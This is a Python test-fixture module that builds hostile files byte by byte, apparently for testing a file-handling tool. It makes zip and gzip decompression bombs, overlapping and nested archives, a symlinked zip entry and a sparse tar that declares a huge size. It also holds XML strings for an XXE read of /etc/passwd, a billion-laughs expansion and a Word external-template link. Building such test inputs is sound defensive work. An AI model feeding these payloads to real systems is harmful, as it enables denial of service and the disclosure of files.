"""Files made to harm whoever opens them, made here byte by byte; none is kept in the repository."""

import gzip
import io
import struct
import tarfile
import zipfile

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(40)
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def zipped(*entries: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these entries."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return stream.getvalue()


def zip_with_link(name: str, target: str) -> bytes:
    """An archive with a symbolic link."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.create_system = 3
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, target)
    return stream.getvalue()


def encrypted_zip() -> bytes:
    """An archive whose entry says it is encrypted, in both of its headers."""
    content = bytearray(zipped(("secret.txt", b"secret"), method=zipfile.ZIP_STORED))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def overlapping_zip(copies: int = 50) -> bytes:
    """One compressed kernel that every entry of the directory points at."""
    kernel = zipped(("0", bytes(1_000_000)))
    start = kernel.index(b"PK\x01\x02")
    one = kernel[start : kernel.index(b"PK\x05\x06")]
    directory = b"".join(one[:46] + str(n % 10).encode() + one[47:] for n in range(copies))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(directory), start, 0)
    return kernel[:start] + directory + end


def nested_zip(depth: int) -> bytes:
    """An archive in an archive in an archive."""
    content = b"at the bottom"
    name = "bottom.txt"
    for level in range(depth):
        content, name = zipped((name, content)), f"level{level}.zip"
    return content


def tarred(*entries: tarfile.TarInfo | tuple[str, bytes]) -> bytes:
    """A tar of these entries."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                archive.addfile(entry)
            else:
                about = tarfile.TarInfo(entry[0])
                about.size = len(entry[1])
                archive.addfile(about, io.BytesIO(entry[1]))
    return stream.getvalue()


def tar_entry(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    """An entry that is no file."""
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def sparse_tar(declared: int) -> bytes:
    """A tar of two kilobytes that declares one sparse file of ``declared`` bytes (GNU format)."""
    header = bytearray(tarfile.TarInfo("disk.img").tobuf(tarfile.GNU_FORMAT))
    header[156:157] = b"S"
    header[483:495] = b"\x80" + declared.to_bytes(11, "big")
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return bytes(header[:512]) + bytes(1024)


def gzip_bomb(unpacked: int) -> bytes:
    """Zeros, compressed about a thousand times."""
    return gzip.compress(bytes(unpacked))


def docx(document: str, *more: tuple[str, bytes]) -> bytes:
    """A document of the least parts."""
    return zipped(
        ("[Content_Types].xml", TYPES.encode()), ("word/document.xml", document.encode()), *more
    )


def paragraphs(*texts: str) -> str:
    """The main part of a document of these paragraphs."""
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)
    return f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'


XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><d>&c;</d>'
)
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://example.org/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)
